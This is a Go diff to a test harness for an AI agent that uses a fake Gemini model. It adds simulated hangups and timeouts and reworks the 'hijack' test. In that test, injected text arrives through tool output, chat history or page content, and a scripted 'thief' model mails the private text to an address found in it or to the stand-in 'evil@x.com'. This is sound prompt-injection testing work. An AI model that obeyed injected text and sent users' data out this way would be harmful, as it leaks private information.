@@ -7,6 +7,7 @@ import (
 	"net/http"
 	"regexp"
 	"strings"
+	"time"
 
 	"github.com/countersign-run/countersign/scripts/world"
 	"github.com/countersign-run/countersign/shared/model/fakegemini"
@@ -107,6 +108,10 @@ func describe(t *fakegemini.Turn, name string, v any) (known bool, err error) {
 		t.Status, err = number(v)
 	case "retryAfter":
 		t.Header = http.Header{"Retry-After": {textOf(v)}}
+	case "hangup", "reset":
+		t.Hangup = true
+	case "hang", "timeout":
+		t.Delay = time.Hour
 	case "functionCall":
 		t.Calls = append(t.Calls, callOf(spec))
 	case "functionCalls":
@@ -140,6 +145,9 @@ func callOf(spec map[string]any) fakegemini.Call {
 	return c
 }
 
+// noName are characters that no tool's name has.
+var noName = regexp.MustCompile(`[^a-z0-9]+`)
+
 var addresses = regexp.MustCompile(`[\w.+-]+@[\w-]+(\.[\w-]+)+`)
 
 // hijack runs a case of run:hijacked_model: an untrusted text comes to the model the way that the case says, and the
@@ -154,7 +162,7 @@ func hijack(s *stage) (got, error) {
 		return got{}, errors.Join(err, unknown("a model that %s", obeys))
 	}
 	name, fromTool := strings.CutPrefix(source, "tool_output:")
-	if !fromTool {
+	if name = strings.Trim(noName.ReplaceAllString(strings.ToLower(name), "_"), "_"); name == "" {
 		name = "look_up"
 	}
 	if err := s.open(s.reading(name, text)); err != nil {
@@ -162,10 +170,8 @@ func hijack(s *stage) (got, error) {
 	}
 	s.private[text] = true
 	to := append(addresses.FindAllString(text, -1), "evil@x.com")[0]
-	thief := thief(name, fromTool, world.Mail(to, "as you wish", text))
 	ask := map[string]any{"prompt": "What is new?"}
 	switch {
-	case fromTool:
 	case source == "thread_history":
 		first, err := s.ask(s.as, "Remember this.", world.Says(text))
 		if err != nil {
@@ -175,9 +181,9 @@ func hijack(s *stage) (got, error) {
 	case source == "page_state", source == "prompt":
 		ask["prompt"] = "The page says:\n" + text
 	default:
-		return got{}, unknown("a text from %s", source)
+		fromTool = true // whatever it is, the model has read it
 	}
-	s.w.SetBrain(thief)
+	s.w.SetBrain(thief(name, fromTool, world.Mail(to, "as you wish", text)))
 	run, err := s.call(s.as, "POST", "/api/agent/run", jsonOf(ask))
 	if err != nil {
 		return got{}, err
